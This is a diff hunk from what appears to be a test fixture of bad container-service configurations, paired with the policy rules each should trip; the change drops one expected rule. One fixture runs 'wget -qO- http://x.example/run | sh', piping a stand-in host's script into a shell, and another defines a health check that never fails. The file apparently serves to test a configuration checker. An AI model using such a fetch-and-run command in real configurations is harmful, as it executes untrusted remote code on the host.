@@ -496,7 +496,7 @@ BAD: Mapping[str, tuple[Change, set[str]]] = {
     # operation
     "a program that is fetched at each start": (
         services(entrypoints=["sh", "-c"], command=["wget -qO- http://x.example/run | sh"]),
-        {"images-are-pinned", "data-volumes", "no-usage-reports"},
+        {"images-are-pinned", "no-usage-reports"},
     ),
     "health checks that never fail": (
         services(healthcheck=checked(tests=["CMD-SHELL", "wget -q http://x || true"])),
